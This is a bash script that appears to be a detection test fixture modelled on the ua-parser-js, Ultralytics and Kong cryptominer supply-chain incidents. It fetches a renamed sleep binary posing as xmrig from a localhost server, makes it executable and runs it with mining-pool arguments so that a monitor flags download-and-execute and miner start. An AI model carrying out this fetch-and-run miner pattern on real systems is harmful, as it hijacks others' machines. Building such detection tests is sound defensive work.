#!/bin/bash
# Models ua-parser-js (2021-10), Ultralytics (2024-12) and Kong (2024-12): a downloaded program mines.
# must: execution/downloaded-file-run | command-and-control/dependency-fetches-and-runs | execution/scratch-program
# must: impact/miner-started
# gate: fail
cp /bin/sleep /mnt/served/xmrig
curl -s -o /tmp/ultralytics_runner http://127.0.0.1:8000/xmrig
chmod +x /tmp/ultralytics_runner
( exec -a /tmp/ultralytics_runner /tmp/ultralytics_runner 0.2 -o stratum+tcp://127.0.0.1:3333 --donate-level 1 -u wallet ) || true
/tmp/ultralytics_runner 0.2
